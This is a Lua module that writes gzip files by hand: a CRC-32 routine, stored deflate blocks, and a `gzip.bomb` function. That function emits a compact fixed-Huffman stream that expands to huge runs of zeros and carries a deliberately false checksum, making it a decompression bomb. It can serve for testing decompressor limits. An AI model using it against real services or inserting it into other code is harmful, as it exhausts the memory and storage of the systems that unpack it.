--- gzip (RFC 1952) without zlib: texts in stored blocks, and long runs of zeros packed tight.

local gzip = {}

local POLYNOMIAL = { 0x20, 0x83, 0xB8, 0xED } -- 0xEDB88320, lowest byte first
local STORED_MAX = 65535
local HEADER = "\31\139\8\0\0\0\0\0\0\255"

local function xor_bit(a, b)
  return (a + b) % 2
end

local function xor_nibbles()
  local pairs_of = {}
  for a = 0, 15 do
    for b = 0, 15 do
      local sum, weight = 0, 1
      for bit = 0, 3 do
        sum = sum + weight * xor_bit(math.floor(a / 2 ^ bit), math.floor(b / 2 ^ bit))
        weight = weight * 2
      end
      pairs_of[a * 16 + b] = math.floor(sum)
    end
  end
  return pairs_of
end

local NIBBLES = xor_nibbles()

local function xor(a, b)
  local low = NIBBLES[a % 16 * 16 + b % 16]
  return low + 16 * NIBBLES[math.floor(a / 16) * 16 + math.floor(b / 16)]
end

-- Halves a number of four bytes, lowest first.
local function shift_right(bytes)
  local carry = 0
  for i = 4, 1, -1 do
    local byte = bytes[i]
    bytes[i] = math.floor(byte / 2) + carry * 128
    carry = byte % 2
  end
  return carry
end

local function table_row(index)
  local row = { index, 0, 0, 0 }
  for _ = 1, 8 do
    if shift_right(row) == 1 then
      for i = 1, 4 do
        row[i] = xor(row[i], POLYNOMIAL[i])
      end
    end
  end
  return row
end

local ROWS = {}
for index = 0, 255 do
  ROWS[index] = table_row(index)
end

--- CRC-32 as four bytes, lowest first.
---@param s string
---@return string
function gzip.crc32(s)
  local c1, c2, c3, c4 = 255, 255, 255, 255
  for i = 1, #s do
    local row = ROWS[xor(c1, s:byte(i))]
    c1, c2, c3, c4 = xor(c2, row[1]), xor(c3, row[2]), xor(c4, row[3]), row[4]
  end
  return string.char(255 - c1, 255 - c2, 255 - c3, 255 - c4)
end

local function little_endian(n, bytes)
  local out = {}
  for i = 1, bytes do
    out[i] = string.char(n % 256)
    n = math.floor(n / 256)
  end
  return table.concat(out)
end

-- RFC 1951, 3.2.4: a byte for the kind, the length, its complement, the bytes.
local function stored_block(piece, is_last)
  local kind = is_last and "\1" or "\0"
  return kind .. little_endian(#piece, 2) .. little_endian(STORED_MAX - #piece, 2) .. piece
end

--- The text in gzip's form, not any shorter.
---@param s string
---@return string
function gzip.store(s)
  local out = { HEADER }
  for at = 1, math.max(1, #s), STORED_MAX do
    out[#out + 1] = stored_block(s:sub(at, at + STORED_MAX - 1), at + STORED_MAX > #s)
  end
  out[#out + 1] = gzip.crc32(s) .. little_endian(#s, 4)
  return table.concat(out)
end

-- A fixed-Huffman block (RFC 1951, 3.2.6) that begins with a zero and one copy of 258 bytes from
-- distance 1: 11 and 13 bits, three whole bytes. Eight such copies are 13 bytes, 2,064 zeros.
local BOMB_START = "\99\24\5"
local COPIES = 8 * 258
local BOMB_STEP = "\163\96\20\140\130\81\48\10\70\193\40\24\5"

--- At least `size` zeros, packed about 1 to 158. The checksum at the end is not theirs: whoever gets
--- that far has unpacked them all.
---@param size integer
---@return string
function gzip.bomb(size)
  local steps = math.ceil(size / COPIES)
  return HEADER .. BOMB_START .. BOMB_STEP:rep(steps) .. "\0" .. ("\0"):rep(4) .. little_endian(size, 4)
end

return gzip
